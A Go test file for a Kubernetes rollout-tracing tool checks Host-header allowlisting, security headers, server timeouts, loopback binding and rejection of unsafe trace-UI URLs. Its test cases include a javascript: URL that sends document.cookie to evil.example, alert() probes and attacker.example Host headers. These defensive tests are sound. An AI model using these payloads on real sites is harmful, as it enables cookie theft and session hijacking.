package main

import (
	"context"
	"io"
	"log/slog"
	"net/http"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/prometheus/client_golang/prometheus"
	"github.com/spf13/pflag"
	"k8s.io/client-go/kubernetes/fake"

	"github.com/readyspan/readyspan/access"
	"github.com/readyspan/readyspan/exporters/otlp"
	"github.com/readyspan/readyspan/tracer"
	"github.com/readyspan/readyspan/web"
)

// getHost GETs path from addr with the Host header host.
func getHost(t *testing.T, addr, host, path string) (*http.Response, string) {
	t.Helper()
	req, err := http.NewRequest(http.MethodGet, "http://"+addr+path, nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Host = host
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	return resp, string(body)
}

// readyspan run's port: the UI answers only to its own names, while /metrics, /healthz and
// /readyz answer to any (Prometheus and the kubelet reach a Pod by whatever name they were given);
// every response carries the security headers, and the server has its timeouts.
func TestRunServerUIHosts(t *testing.T) {
	guard, err := access.New(access.Config{}, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	ln, err := guard.Listen("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := ln.Addr().String()
	ln.Close()
	uf := uiFlags{enabled: true, maxRollouts: 1, maxPods: 1, maxMiB: 1, allowedHosts: stringList{"readyspan.example.com"}}
	ring, err := uf.ring()
	if err != nil {
		t.Fatal(err)
	}
	ui, err := uf.handler(ring, addr)
	if err != nil {
		t.Fatal(err)
	}
	var ready atomic.Bool
	w := tracer.NewWatcher(fake.NewClientset(), tracer.WatchConfig{}, nil, nil)
	srv, err := serve(addr, guard, prometheus.NewRegistry(), w, &ready, func() otlp.Status { return otlp.Status{} }, ui, false, slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Shutdown(context.Background())
	if srv.IdleTimeout <= 0 || srv.ReadHeaderTimeout <= 0 || srv.ReadTimeout <= 0 || srv.WriteTimeout <= 0 {
		t.Errorf("timeouts: idle %v, read header %v, read %v, write %v", srv.IdleTimeout, srv.ReadHeaderTimeout, srv.ReadTimeout, srv.WriteTimeout)
	}
	for _, tc := range []struct {
		host, path string
		want       int
	}{
		{addr, "/", 200},
		{"localhost", "/api/v1/rollouts", 200},
		{"readyspan.example.com:443", "/", 200},
		{"attacker.example", "/", http.StatusMisdirectedRequest},
		{"attacker.example:" + strings.Split(addr, ":")[1], "/api/v1/pods", http.StatusMisdirectedRequest},
		{"attacker.example", "/healthz", 200},
		{"10.244.0.17:8080", "/metrics", 200},
	} {
		resp, body := getHost(t, addr, tc.host, tc.path)
		if resp.StatusCode != tc.want {
			t.Errorf("GET %s, Host %s: %d, want %d: %s", tc.path, tc.host, resp.StatusCode, tc.want, body)
		}
		if resp.Header.Get("X-Content-Type-Options") != "nosniff" || resp.Header.Get("X-Frame-Options") != "DENY" {
			t.Errorf("GET %s, Host %s: headers %v", tc.path, tc.host, resp.Header)
		}
	}
}

// replay --listen binds the loopback address unless told otherwise, and answers only to its
// names.
func TestReplayListen(t *testing.T) {
	for in, want := range map[string]string{":8081": "127.0.0.1:8081", "0.0.0.0:8081": "0.0.0.0:8081", "[::]:8081": "[::]:8081",
		"localhost:0": "localhost:0", "192.168.1.5:8081": "192.168.1.5:8081"} {
		if got, err := replayListenAddr(in); err != nil || got != want {
			t.Errorf("--listen %s: %s %v, want %s", in, got, err, want)
		}
	}
	if _, err := replayListenAddr("8081"); err == nil {
		t.Error("--listen 8081 accepted")
	}
	ring := web.NewRing(web.RingConfig{})
	srv, err := replayServer(ring, "127.0.0.1:8081", "", nil)
	if err != nil {
		t.Fatal(err)
	}
	if srv.IdleTimeout <= 0 || srv.ReadHeaderTimeout <= 0 {
		t.Errorf("timeouts: idle %v, read header %v", srv.IdleTimeout, srv.ReadHeaderTimeout)
	}
	if _, err := replayServer(ring, "127.0.0.1:8081", "javascript:alert(1)//{trace_id}", nil); err == nil {
		t.Error("a javascript: --trace-ui-url accepted")
	}
	if _, err := replayServer(ring, "127.0.0.1:8081", "", []string{"http://x/"}); err == nil {
		t.Error("--ui-allowed-hosts http://x/ accepted")
	}
}

// --trace-ui-url is an http(s) URL with {trace_id}, for run as for replay.
func TestTraceUIURLFlag(t *testing.T) {
	for _, tc := range []struct {
		url string
		ok  bool
	}{
		{"http://localhost:16686/trace/{trace_id}", true},
		{"javascript:fetch('//evil.example/'+document.cookie)//{trace_id}", false},
		{"http://localhost:16686/trace/", false},
	} {
		var uf uiFlags
		fs := pflag.NewFlagSet("run", pflag.ContinueOnError)
		uf.register(fs)
		if err := fs.Parse([]string{"--trace-ui-url", tc.url}); err != nil {
			t.Fatal(err)
		}
		if _, err := uf.ring(); (err == nil) != tc.ok {
			t.Errorf("run --trace-ui-url %q: %v, want ok %v", tc.url, err, tc.ok)
		}
	}
}

// explain and replay refuse a --trace-ui-url that is not an http(s) URL with {trace_id} before
// any work, and the HTML report links each trace with it.
func TestReportTraceUIURL(t *testing.T) {
	ctx := context.Background()
	for name, run := range map[string]func(context.Context, []string, io.Writer, io.Writer) error{"explain": runExplain, "replay": runReplay} {
		for _, bad := range []string{"javascript:alert(document.domain)//{trace_id}", "http://jaeger:16686/search"} {
			err := run(ctx, []string{"pod/web", "-o", "html", "--trace-ui-url", bad}, io.Discard, io.Discard)
			if err == nil || !strings.Contains(err.Error(), "--trace-ui-url") {
				t.Errorf("%s --trace-ui-url %q: %v", name, bad, err)
			}
		}
	}
	var out strings.Builder
	err := runReplay(ctx, []string{"../../tracer/testdata/real-node/run8-slow-pull-watch", "-o", "html", "--trace-ui-url", "https://jaeger.example/trace/{trace_id}"}, &out, io.Discard)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), `"traceUI":"https://jaeger.example/trace/{trace_id}"`) {
		t.Error("replay -o html does not link to the trace UI")
	}
}
